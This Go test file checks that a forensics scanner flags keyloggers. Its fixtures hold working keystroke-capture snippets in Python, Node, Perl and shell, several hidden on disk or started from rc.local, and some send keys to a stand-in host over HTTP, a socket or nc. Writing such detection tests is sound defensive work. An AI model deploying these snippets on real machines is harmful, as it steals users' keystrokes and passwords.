package shell

import (
	"slices"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestKeyloggers holds STRATA-CT-007: code that listens to the keyboard and keeps or sends
// what it hears, in several languages and tools (an input device piped into a sender is
// CT-001's, keystrokes sent), and listeners that keep nothing.
func TestKeyloggers(t *testing.T) {
	for _, tc := range []struct {
		name, path, text string
		found            bool
	}{
		{"pynput to a log file", "/usr/local/lib/.cache/k.py", "from pynput.keyboard import Listener\nimport logging\nlogging.basicConfig(filename='/tmp/.k', level=logging.DEBUG)\ndef on_press(key):\n    logging.info(str(key))\nwith Listener(on_press=on_press) as l:\n    l.join()\n", true},
		{"pynput module path, keys posted", "/opt/svc/agent.py", "import pynput.keyboard as kb\nimport requests\nbuf = []\ndef press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://203.0.113.9/k', data=''.join(buf))\n        buf.clear()\nkb.Listener(on_press=press).start()\n", true},
		{"keyboard module hook to a file", "/root/.local/x.py", "import keyboard\nf = open('/var/tmp/.keys', 'a')\nkeyboard.on_press(lambda e: f.write(e.name))\nkeyboard.wait()\n", true},
		{"evdev read loop to a file", "/usr/lib/python3/dist-packages/.input.py", "from evdev import InputDevice, categorize, ecodes\ndev = InputDevice('/dev/input/event2')\nout = open('/dev/shm/.log', 'a')\nfor ev in dev.read_loop():\n    if ev.type == ecodes.EV_KEY:\n        out.write(str(categorize(ev)) + '\\n')\n", true},
		{"raw input device over a socket", "/opt/k.py", "import socket, struct\ns = socket.create_connection(('203.0.113.9', 9000))\nwith open('/dev/input/event0', 'rb') as f:\n    while True:\n        s.sendall(f.read(24))\n", true},
		{"node iohook appended to a file", "/srv/app/lib/hook.js", "const ioHook = require('iohook');\nconst fs = require('fs');\nioHook.on('keydown', e => fs.appendFileSync('/tmp/.k', String(e.keycode) + '\\n'));\nioHook.start();\n", true},
		{"perl reads an input device", "/usr/local/bin/kl.pl", "#!/usr/bin/perl\nopen(my $in, '<', '/dev/input/event3') or die;\nopen(my $out, '>>', '/tmp/.kl') or die;\nwhile (read($in, my $buf, 24)) { $out->print(unpack('H*', $buf)); }\n", true},
		{"logkeys started", "/etc/rc.local", "#!/bin/sh\nlogkeys --start --output /var/log/.lk\nexit 0\n", true},
		{"xinput test into a file", "/usr/local/bin/xi", "#!/bin/sh\nid=$(xinput list | grep -i keyboard | head -1 | sed 's/.*id=\\([0-9]*\\).*/\\1/')\nxinput test \"$id\" > /tmp/.x 2>&1 &\n", true},
		{"input device read into nc", "/usr/local/bin/ev", "#!/bin/sh\ncat /dev/input/event0 | nc 203.0.113.9 9001\n", true},
		// clean
		{"hotkey handler", "/opt/kiosk/hotkeys.py", "import keyboard, subprocess\nkeyboard.add_hotkey('ctrl+alt+r', lambda: subprocess.run(['systemctl', 'restart', 'kiosk']))\nkeyboard.wait()\n", false},
		{"pynput mouse only, logged", "/opt/a/mouse.py", "from pynput import mouse\nimport logging\nlogging.basicConfig(filename='clicks.log')\nmouse.Listener(on_click=lambda x, y, b, p: logging.info(b)).start()\n", false},
		{"evtest to the terminal", "/usr/local/bin/check-input", "#!/bin/sh\nevtest /dev/input/event0\n", false},
		{"xinput list", "/usr/local/bin/kbd", "#!/bin/sh\nxinput list > /tmp/devices.txt\n", false},
	} {
		fs := scanFile(tc.path, tc.text)
		found := false
		for _, f := range fs {
			if (f.Rule == RuleKeylog || f.Rule == RuleCredSend) && f.Severity >= audit.High && f.Is(audit.CategoryCredentialTheft) && slices.Contains(f.Techniques, "T1056.001") {
				found = true
			}
		}
		if found != tc.found {
			t.Errorf("%s: keylogger found %v, want %v\n%s", tc.name, found, tc.found, dump(fs))
		}
	}
}
